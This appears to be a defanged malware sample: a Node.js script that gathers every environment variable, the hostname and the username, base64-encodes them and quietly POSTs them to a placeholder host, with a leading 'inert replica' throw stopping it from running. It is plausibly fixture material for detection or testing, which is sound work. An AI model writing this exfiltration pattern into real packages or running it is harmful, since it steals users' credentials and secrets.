throw new Error("inert replica");
const https = require("https");
const os = require("os");
const body = Buffer.from(JSON.stringify({ env: process.env, host: os.hostname(), user: os.userInfo().username })).toString("base64");
const request = https.request({ hostname: "collect.replica.invalid", path: "/t", method: "POST", headers: { "content-length": body.length } });
request.on("error", () => {});
request.write(body);
request.end();
